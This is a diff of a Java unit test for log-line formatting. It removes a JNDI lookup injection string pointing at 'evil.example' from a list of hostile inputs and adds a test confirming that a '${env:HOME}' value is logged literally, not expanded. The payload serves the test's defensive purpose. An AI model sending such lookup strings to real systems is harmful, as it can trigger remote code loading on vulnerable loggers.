@@ -7,6 +7,7 @@ import ch.qos.logback.classic.LoggerContext;
 import ch.qos.logback.classic.spi.LoggingEvent;
 import java.time.Instant;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -42,7 +43,6 @@ class LogLineTest {
                 "a\u2028b",
                 "a\u0085b",
                 "\ud800",
-                "${jndi:ldap://evil.example/a}",
                 "a=b c=d"
             })
     void T31_noValueBeginsALineOrEndsItsField(String hostile) {
@@ -52,6 +52,11 @@ class LogLineTest {
         assertThat(line.substring(0, line.length() - 1).codePoints())
                 .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT || c == 0x2028);
         assertThat(line).containsPattern(" why=\"[^\"]*\"\n$");
+    }
+
+    @Test
+    void nothingInAValueIsLookedUp() {
+        assertThat(line("mail.failed", "why", "${env:HOME}")).endsWith(" why=${env:HOME}\n");
     }
 
     @Test
@@ -75,6 +80,7 @@ class LogLineTest {
     private LoggingEvent event(String message) {
         var logger = context.getLogger("org.sallyport.server.notify.Postman");
         var event = new LoggingEvent("", logger, Level.INFO, message, null, null);
+        event.setMDCPropertyMap(Map.of());
         event.setInstant(Instant.parse("2026-11-22T10:00:00Z"));
         return event;
     }
